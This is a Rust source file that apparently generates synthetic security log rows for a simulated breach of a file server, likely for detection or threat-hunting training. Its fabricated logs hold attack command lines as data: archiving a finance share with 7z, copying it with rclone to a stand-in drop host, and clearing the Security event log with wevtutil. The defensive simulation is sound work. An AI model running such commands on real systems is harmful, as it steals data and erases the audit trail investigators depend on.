//! The file server: entered, packed, copied away.

use crate::company::{Company, NT_DOMAIN, OFFICE_IP};
use crate::noise::endpoint::sha256;
use crate::sheets::{Cell, Sheets};

/// Account of the backup service, whose password lay in the dumped memory.
const SERVICE_ACCOUNT: &str = "svc-backup";
/// Where the data goes.
const DROP_IP: &str = "203.0.113.140";

pub(super) fn logon_with_service_account(sheets: &mut Sheets, company: &Company, at: i64) {
    let (server, from) = (company.server("file01"), &company.second_victim().device);
    sheets.row(
        "DeviceLogonEvents",
        at,
        &[
            ("DeviceId", (&server.id).into()),
            ("DeviceName", (&server.name).into()),
            ("ActionType", "LogonSuccess".into()),
            ("LogonType", "Network".into()),
            ("AccountName", SERVICE_ACCOUNT.into()),
            ("AccountDomain", NT_DOMAIN.into()),
            ("IsLocalAdmin", true.into()),
            ("Protocol", "NTLM".into()),
            ("RemoteIP", (&from.ip).into()),
            ("RemoteIPType", "Private".into()),
            ("RemoteDeviceName", (&from.name).into()),
        ],
    );
    sheets.row(
        "SecurityEvent",
        at,
        &[
            ("Computer", (&server.name).into()),
            ("Channel", "Security".into()),
            ("EventID", 4624.into()),
            ("Activity", "4624 - An account was successfully logged on.".into()),
            ("TargetUserName", SERVICE_ACCOUNT.into()),
            ("TargetDomainName", NT_DOMAIN.into()),
            ("Account", format!(r"{NT_DOMAIN}\{SERVICE_ACCOUNT}").into()),
            ("LogonType", 3.into()),
            ("AuthenticationPackageName", "NTLM".into()),
            ("LogonProcessName", "NtLmSsp".into()),
            ("IpAddress", (&from.ip).into()),
            ("WorkstationName", "WKS-0101".into()),
        ],
    );
    sheets.row(
        "SecurityEvent",
        at + 2_000_000,
        &[
            ("Computer", (&server.name).into()),
            ("Channel", "Security".into()),
            ("EventID", 5145.into()),
            (
                "Activity",
                "5145 - A network share object was checked to see whether client can be granted desired access.".into(),
            ),
            ("SubjectUserName", SERVICE_ACCOUNT.into()),
            ("SubjectDomainName", NT_DOMAIN.into()),
            ("ShareName", r"\\*\ADMIN$".into()),
            ("RelativeTargetName", "rsvc4471.exe".into()),
            ("IpAddress", (&from.ip).into()),
        ],
    );
}

pub(super) fn remote_service(sheets: &mut Sheets, company: &Company, at: i64) {
    let server = company.server("file01");
    sheets.row(
        "WindowsEvent",
        at,
        &[
            ("Computer", (&server.name).into()),
            ("Channel", "System".into()),
            ("Provider", "Service Control Manager".into()),
            ("EventID", 7045.into()),
            ("EventData", r#"{"ServiceName":"rsvc4471","ImagePath":"%SystemRoot%\\rsvc4471.exe","ServiceType":"user mode service","StartType":"demand start","AccountName":"LocalSystem"}"#.into()),
        ],
    );
    sheets.row(
        "DeviceEvents",
        at,
        &[
            ("DeviceId", (&server.id).into()),
            ("DeviceName", (&server.name).into()),
            ("ActionType", "ServiceInstalled".into()),
            ("FileName", "rsvc4471.exe".into()),
            ("FolderPath", r"C:\Windows\rsvc4471.exe".into()),
            ("InitiatingProcessFileName", "services.exe".into()),
            ("InitiatingProcessAccountName", SERVICE_ACCOUNT.into()),
            (
                "AdditionalFields",
                r#"{"ServiceName":"rsvc4471","ServiceAccount":"LocalSystem","ServiceStartType":"demand start"}"#.into(),
            ),
        ],
    );
}

pub(super) fn shell_on_file_server(sheets: &mut Sheets, company: &Company, at: i64) {
    process(
        sheets,
        company,
        at,
        ("rsvc4471.exe", r"C:\Windows", r"C:\Windows\rsvc4471.exe", 5_508),
        ("services.exe", r"C:\Windows\System32", 724),
    );
    process(
        sheets,
        company,
        at + 1_000_000,
        (
            "cmd.exe",
            r"C:\Windows\System32",
            "cmd.exe /c dir D:\\Finance /s",
            5_612,
        ),
        ("rsvc4471.exe", r"C:\Windows", 5_508),
    );
}

pub(super) fn archive(sheets: &mut Sheets, company: &Company, at: i64) {
    process(
        sheets,
        company,
        at,
        (
            "7z.exe",
            r"C:\Windows\Temp",
            r"C:\Windows\Temp\7z.exe a -pQ4471 -mhe=on C:\Windows\Temp\fin.7z D:\Finance",
            6_140,
        ),
        ("cmd.exe", r"C:\Windows\System32", 5_612),
    );
    let server = company.server("file01");
    sheets.row(
        "DeviceFileEvents",
        at + 95_000_000,
        &[
            ("DeviceId", (&server.id).into()),
            ("DeviceName", (&server.name).into()),
            ("ActionType", "FileCreated".into()),
            ("FileName", "fin.7z".into()),
            ("FolderPath", r"C:\Windows\Temp\fin.7z".into()),
            ("FileSize", 2_214_592_512.into()),
            ("InitiatingProcessFileName", "7z.exe".into()),
            ("InitiatingProcessId", 6_140.into()),
            ("InitiatingProcessAccountName", "system".into()),
            ("InitiatingProcessAccountDomain", "nt authority".into()),
        ],
    );
}

pub(super) fn exfiltration(sheets: &mut Sheets, company: &Company, at: i64) {
    process(
        sheets,
        company,
        at,
        (
            "rclone.exe",
            r"C:\Windows\Temp",
            r"C:\Windows\Temp\rclone.exe copy C:\Windows\Temp\fin.7z drop:fin --transfers 8 --no-check-certificate",
            6_404,
        ),
        ("cmd.exe", r"C:\Windows\System32", 5_612),
    );
    let server = company.server("file01");
    sheets.row(
        "DeviceNetworkEvents",
        at + 2_000_000,
        &[
            ("DeviceId", (&server.id).into()),
            ("DeviceName", (&server.name).into()),
            ("ActionType", "ConnectionSuccess".into()),
            ("RemoteIP", DROP_IP.into()),
            ("RemoteIPType", "Public".into()),
            ("RemotePort", 443.into()),
            ("Protocol", "Tcp".into()),
            ("LocalIP", (&server.ip).into()),
            ("InitiatingProcessFileName", "rclone.exe".into()),
            ("InitiatingProcessId", 6_404.into()),
            (
                "InitiatingProcessCommandLine",
                r"C:\Windows\Temp\rclone.exe copy C:\Windows\Temp\fin.7z drop:fin --transfers 8 --no-check-certificate"
                    .into(),
            ),
            ("InitiatingProcessAccountName", "system".into()),
        ],
    );
    sheets.row(
        "CommonSecurityLog",
        at + 840_000_000,
        &[
            ("DeviceVendor", "Palisade".into()),
            ("DeviceProduct", "Edge Firewall".into()),
            ("DeviceAction", "allow".into()),
            ("Activity", "TRAFFIC".into()),
            ("SourceIP", (&server.ip).into()),
            ("SourceTranslatedAddress", OFFICE_IP.into()),
            ("SourceHostName", "file01".into()),
            ("DestinationIP", DROP_IP.into()),
            ("DestinationPort", 443.into()),
            ("Protocol", "tcp".into()),
            ("SentBytes", 2_231_369_728.into()),
            ("ReceivedBytes", 1_904_112.into()),
        ],
    );
}

pub(super) fn log_cleared(sheets: &mut Sheets, company: &Company, at: i64) {
    let server = company.server("file01");
    process(
        sheets,
        company,
        at,
        ("wevtutil.exe", r"C:\Windows\System32", "wevtutil cl Security", 6_720),
        ("cmd.exe", r"C:\Windows\System32", 5_612),
    );
    sheets.row(
        "SecurityEvent",
        at + 400_000,
        &[
            ("Computer", (&server.name).into()),
            ("Channel", "Security".into()),
            ("EventID", 1102.into()),
            ("EventSourceName", "Microsoft-Windows-Eventlog".into()),
            ("Activity", "1102 - The audit log was cleared.".into()),
            ("SubjectUserName", "SYSTEM".into()),
            ("SubjectDomainName", "NT AUTHORITY".into()),
        ],
    );
}

/// A process on the file server: name, folder, command line and id, then name, folder and id of its parent.
fn process(
    sheets: &mut Sheets,
    company: &Company,
    at: i64,
    (file, folder, command, id): (&str, &str, &str, i64),
    (parent, parent_folder, parent_id): (&str, &str, i64),
) {
    let server = company.server("file01");
    sheets.row(
        "DeviceProcessEvents",
        at,
        &[
            ("DeviceId", (&server.id).into()),
            ("DeviceName", (&server.name).into()),
            ("ActionType", "ProcessCreated".into()),
            ("FileName", file.into()),
            ("FolderPath", format!(r"{folder}\{file}").into()),
            ("SHA256", sha256(file).into()),
            ("ProcessId", id.into()),
            ("ProcessCommandLine", command.into()),
            ("ProcessCreationTime", Cell::Time(at)),
            ("ProcessIntegrityLevel", "System".into()),
            ("AccountName", "system".into()),
            ("AccountDomain", "nt authority".into()),
            ("InitiatingProcessFileName", parent.into()),
            (
                "InitiatingProcessFolderPath",
                format!(r"{parent_folder}\{parent}").into(),
            ),
            ("InitiatingProcessId", parent_id.into()),
            ("InitiatingProcessAccountName", "system".into()),
            ("InitiatingProcessAccountDomain", "nt authority".into()),
        ],
    );
}
